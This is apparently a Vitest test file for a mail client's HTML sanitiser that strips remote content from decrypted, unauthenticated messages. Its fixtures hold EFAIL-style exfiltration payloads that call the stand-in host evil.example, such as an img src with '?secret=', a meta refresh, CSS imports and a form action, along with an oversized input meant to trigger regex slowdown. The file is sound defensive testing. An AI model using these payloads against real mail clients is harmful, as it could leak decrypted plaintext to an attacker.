import { describe, expect, it } from 'vitest';
import { decodeBody, multipartLayout, readEntity } from '../../../src/mime/entity.js';
import { neutraliseRemoteContent, stripRemoteContent } from '../../../src/mime/html.js';

describe('remote content in HTML of unauthenticated decrypted mail', () => {
  it('neutralises automatic loads (EFAIL exfiltration channels) and keeps links and inline images', () => {
    const html =
      '<html><head><link rel=stylesheet href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=http://evil.example/"><style>@import "http://x"; body{background:url( https://evil.example/bg )}</style></head>' +
      '<body background=http://evil.example/b><img src="http://evil.example/?secret=' +
      '"><img SRC = \'//evil.example/x\'><img src="cid:part1"><img src="data:image/png;base64,AAAA"><a href="https://example.org/">a link</a><form action="https://evil.example/f"></form></body></html>';
    const { html: out, removed } = neutraliseRemoteContent(html);
    expect(removed).toBe(8);
    expect(out).not.toMatch(/\s(src|background|action)\s*=\s*["']?\s*(https?:|\/\/)/i);
    expect(out).not.toMatch(/<link[^>]*\shref=/i);
    expect(out).not.toMatch(/url\(\s*https?:/i);
    expect(out).not.toMatch(/@import/i);
    expect(out).not.toMatch(/http-equiv="refresh"/i);
    expect(out).toContain('<img src="cid:part1">');
    expect(out).toContain('src="data:image/png;base64,AAAA"');
    expect(out).toContain('<a href="https://example.org/">a link</a>');
  });

  // A hang guard, not a stopwatch (no elapsed time is asserted: that flakes on a loaded CI machine).
  // Every pattern of html.ts is linear — quantifiers bounded, none nested — and takes milliseconds
  // here. The input is sized so that a pattern that is not would run far past the test's time-out:
  // an unbounded `[^>]*` tried from each of the 300,000 `<img`s to the end (the only `>` is the
  // last byte) is ~4e11 steps, several minutes; nested quantifiers over the runs of 800,000 spaces
  // never end. The remote load at the very end must still be found, and nothing else changed.
  it('is linear on hostile input (no `>` until the last byte, long runs of white space), and still finds the load at its end', () => {
    const hostile = `<link ${' '.repeat(800_000)}`.repeat(5) + '<img src='.repeat(300_000);
    const { html, removed } = neutraliseRemoteContent(`${hostile}<img src="http://evil.example/x">`);
    expect(removed).toBe(1);
    expect(html).toBe(`${hostile}<img data-postern-removed-src="http://evil.example/x">`);
  });

  it('rewrites only the HTML leaves of a multipart, re-encoded, other parts byte for byte', () => {
    const entity = Buffer.from(
      'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee http://x\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<img src=3D"http://evil.example/">Gr=C3=BC=C3=9Fe\r\n--b1--\r\n',
    );
    const { entity: out, removed } = stripRemoteContent(entity);
    expect(removed).toBe(1);
    const e = readEntity(out);
    const parts = multipartLayout(e.body, e.type.params.get('boundary')!).parts;
    expect(parts[0]!.toString()).toBe('Content-Type: text/plain\r\n\r\nsee http://x');
    const h = readEntity(parts[1]!);
    expect(h.encoding).toBe('base64');
    expect(h.type.params.get('charset')).toBe('utf-8');
    expect(decodeBody(h).toString('utf8')).toBe('<img data-postern-removed-src="http://evil.example/">Grüße');
    const plain = Buffer.from('Content-Type: text/plain\r\n\r\nhttp://x\r\n');
    expect(stripRemoteContent(plain).entity).toBe(plain);
  });
});
